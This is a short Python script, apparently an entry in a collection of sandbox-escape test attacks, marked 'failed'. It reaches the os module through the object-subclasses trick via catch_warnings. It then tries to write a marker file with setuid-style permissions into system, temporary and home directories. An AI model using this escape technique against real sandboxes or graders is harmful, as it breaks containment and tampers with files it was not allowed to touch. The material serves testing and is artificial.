# /// attack
# rows = [48]
# title = "leave a file wherever one can be written"
# verdict = "failed"
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

os = sys.modules["os"]
for folder in ("/", "/tmp", "/var/tmp", "/dev/shm", "/run", "COURSE", "REPOSITORY", "HOME", "."):
    try:
        open(folder + "/attack-left", "w").write("here")
        os.chmod(folder + "/attack-left", 0o4777)
    except OSError:
        pass
